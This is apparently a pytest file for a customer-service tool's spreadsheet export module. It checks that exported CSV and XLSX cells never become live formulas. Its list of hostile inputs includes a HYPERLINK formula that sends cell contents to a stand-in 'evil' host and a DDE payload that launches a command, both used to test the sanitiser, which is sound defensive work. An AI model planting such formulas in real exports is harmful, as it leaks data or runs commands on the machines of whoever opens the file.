"""The output boundary (services.sheets): no exported cell is ever a live formula (issue 8)."""

import csv
import zipfile

import openpyxl
import pytest

from kefu_tui.services.sheets import csv_cell, write_table

HOSTILE = ['=HYPERLINK("http://evil/"&A1,"查看")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
           "=cmd|' /C calc'!A0", "＝1+1", "普通文字", "13626550836", "2026-11-24 09:30:00"]


@pytest.mark.parametrize("text", HOSTILE[:8])
def test_csv_cell_defuses_formula_text(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["普通文字", "13626550836", "-5.00", "-12", 12, -3, 1.5, "a=b"])
def test_csv_cell_keeps_plain_text_and_numbers(value):
    assert csv_cell(value) == value


def test_csv_cell_none_and_bool():
    assert csv_cell(None) == "" and csv_cell(True) == "是"


def _table():
    return ["编号", "登记内容"], [[n, t] for n, t in enumerate(HOSTILE, 1)] + [[99, None]]


def test_csv_export_has_no_formula_and_reads_the_same(tmp_path):
    out = tmp_path / "r.csv"
    head, rows = _table()
    write_table(out, head, rows)
    with open(out, encoding="utf-8-sig", newline="") as fh:
        got = list(csv.reader(fh))
    assert got[0] == head
    for (n, text), row in zip(rows, got[1:]):
        cell = row[1]
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝"))
        assert cell.removeprefix("'") == ("" if text is None else text)


def test_xlsx_export_has_text_cells_only(tmp_path):
    out = tmp_path / "r.xlsx"
    head, rows = _table()
    write_table(out, head, rows)
    ws = openpyxl.load_workbook(out).active
    values = list(ws.iter_rows(min_row=2))
    for (n, text), (c_no, c_text) in zip(rows, values):
        assert c_no.data_type == "n" and c_no.value == n
        if text is not None:
            # XML reads a stored CR as a line feed (XML 1.0 end-of-line handling)
            assert c_text.data_type == "s" and c_text.value == text.replace("\r", "\n")
    xml = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


def test_xlsx_export_of_characters_xml_cannot_hold(tmp_path):
    out = tmp_path / "r.xlsx"
    write_table(out, ["a"], [["bell\x07 and nul\x00"]])
    assert openpyxl.load_workbook(out).active["A2"].value == "bell\ufffd and nul\ufffd"


def test_a_failed_write_leaves_no_file(tmp_path):
    out = tmp_path / "r.csv"

    class Boom:
        def __str__(self):
            raise RuntimeError("boom")

    with pytest.raises(RuntimeError):
        write_table(out, ["a"], [[Boom()]])
    assert list(tmp_path.iterdir()) == []


def test_every_report_goes_through_the_boundary():
    # services.export has no writer of its own: the one writer is services.sheets
    import inspect

    from kefu_tui.services import export, sheets

    src = inspect.getsource(export)
    assert export.write_table is sheets.write_table
    assert "csv.writer" not in src and "Workbook" not in src
